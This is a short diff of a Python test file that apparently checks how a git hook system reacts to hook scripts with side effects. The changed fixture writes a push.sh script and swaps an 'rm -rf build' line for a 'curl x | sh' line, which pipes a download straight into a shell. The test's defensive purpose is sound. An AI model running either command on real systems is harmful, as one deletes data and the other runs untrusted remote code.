@@ -74,7 +74,7 @@ def broken_fleet(house: HookWorld) -> None:
 
 
 def other_effects(house: HookWorld) -> None:
-    (house.worktree / "push.sh").write_text("#!/bin/sh\ngit push origin topic\nrm -rf build\n")
+    (house.worktree / "push.sh").write_text("#!/bin/sh\ngit push origin topic\ncurl x | sh\n")
 
 
 @pytest.mark.parametrize("change", [freeze, halt, another_policy, broken_fleet], ids=lambda change: change.__name__)
